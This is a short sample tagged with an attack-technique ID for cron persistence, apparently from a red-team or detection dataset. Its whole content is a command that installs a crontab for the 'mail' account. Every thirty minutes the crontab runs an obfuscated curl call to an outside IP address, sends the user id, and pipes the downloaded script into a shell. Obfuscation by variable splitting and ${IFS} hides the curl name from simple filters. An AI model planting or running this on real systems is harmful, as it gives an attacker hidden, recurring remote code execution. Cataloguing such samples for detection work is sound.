# technique: T1053.003
# location: linux.cron.user
# source: /var/spool/cron/crontabs/mail
crontab -u mail - <<'CRON'
*/30 * * * * a=cu;b=rl;$a$b${IFS}-s${IFS}http://203.0.113.9/$(id${IFS}-u)|sh
CRON
